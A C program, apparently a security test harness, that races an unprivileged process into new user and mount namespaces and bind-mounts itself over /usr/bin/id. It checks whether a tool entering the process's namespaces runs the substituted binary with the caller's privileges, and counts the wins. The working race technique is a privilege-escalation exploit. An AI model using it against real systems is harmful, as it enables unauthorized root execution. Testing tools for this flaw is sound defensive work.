// SPDX-License-Identifier: MIT
// An ordinary user's process moves, while it is entered, into its own user and mount namespaces, in which
// another program replaces /usr/bin/id. If the attack wins, both sides of the move are entered at once, and
// the program runs with the caller's rights.
//
//   attack-switch UID TRIES COMMAND...
//
//   attack-switch --restless
//
// TRIES times, such a process moves at some moment while COMMAND runs, with "@" replaced by its PID: after a
// random time, at most as long as the command takes without a move. Prints how often the attack won, and exits
// with 1 if it did. The restless process moves from one UTS namespace to the next, forever.
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char place[] = "/usr/bin/id";

static int write_file(const char* path, const char* text) {
  int fd = open(path, O_WRONLY | O_CREAT, 0666);
  int failed = fd < 0 || write(fd, text, strlen(text)) < 0;
  close(fd);
  return failed;
}

// Replaces id(1): the attack has won if only the caller's own user namespace surrounds it.
static int look_around(void) {
  char map[64] = "";
  int fd = open("/proc/self/uid_map", O_RDONLY);
  if (fd < 0 || read(fd, map, sizeof map - 1) < 0) return 3;
  unsigned inside, outside, count;
  if (sscanf(map, "%u %u %u", &inside, &outside, &count) != 3) return 3;
  const char* won = getenv("ATTACK_WON");
  if (count > 65536 && geteuid() == 0 && won != NULL) write_file(won, "won\n");
  return 0;
}

static void move(uid_t uid, unsigned delay, int ready) {
  char self[4096], map[64];
  ssize_t size = readlink("/proc/self/exe", self, sizeof self - 1);
  if (size < 0 || setgid(uid) != 0 || setuid(uid) != 0) exit(3);
  self[size] = '\0';
  // A process that others of its kind enter can be traced.
  prctl(PR_SET_DUMPABLE, 1);
  snprintf(map, sizeof map, "0 %u 1", uid);
  if (write(ready, "r", 1) != 1) exit(3);
  usleep(delay);
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) exit(3);
  // For a process with the earlier rights: the rest needs a map.
  write_file("/proc/self/setgroups", "deny");
  write_file("/proc/self/uid_map", map);
  write_file("/proc/self/gid_map", map);
  mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
  mount(self, place, NULL, MS_BIND, NULL);
  for (;;) pause();
}

static unsigned now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (unsigned)(time.tv_sec * 1000000 + time.tv_nsec / 1000);
}

// Runs the command once, on a process that moves after that time, and returns how long the command took.
static unsigned enter_one(uid_t uid, unsigned delay, char** command) {
  int ready[2];
  char byte;
  if (pipe(ready) != 0) exit(3);
  const pid_t target = fork();
  if (target == 0) move(uid, delay, ready[1]);
  if (target < 0 || read(ready[0], &byte, 1) != 1) exit(3);
  const unsigned begin = now();
  const pid_t victim = fork();
  if (victim == 0) {
    char number[16];
    snprintf(number, sizeof number, "%d", target);
    for (char** word = command; *word != NULL; ++word)
      if (strcmp(*word, "@") == 0) *word = number;
    const int null = open("/dev/null", O_RDWR);
    dup2(null, 1);
    dup2(null, 2);
    execvp(command[0], command);
    _exit(127);
  }
  waitpid(victim, NULL, 0);
  const unsigned took = now() - begin;
  kill(target, SIGKILL);
  waitpid(target, NULL, 0);
  close(ready[0]);
  close(ready[1]);
  return took;
}

int main(int argc, char** argv) {
  if (strstr(argv[0], "attack-switch") == NULL) return look_around();
  while (argc == 2 && strcmp(argv[1], "--restless") == 0)
    if (unshare(CLONE_NEWUTS) != 0) return 3;
  const char* won = getenv("ATTACK_WON");
  if (argc < 4 || won == NULL) return 2;
  const uid_t uid = (uid_t)atoi(argv[1]);
  const int tries = atoi(argv[2]);
  int wins = 0;
  srand((unsigned)getpid());
  unsigned most = 0;
  for (int i = 0; i < 3; ++i) {
    const unsigned took = enter_one(uid, 60000000, argv + 3);
    if (i == 0 || took < most) most = took;
  }
  for (int i = 0; i < tries; ++i) {
    enter_one(uid, (unsigned)rand() % most, argv + 3);
    if (access(won, F_OK) != 0) continue;
    ++wins;
    unlink(won);
  }
  printf("%d of %d won\n", wins, tries);
  return wins != 0;
}
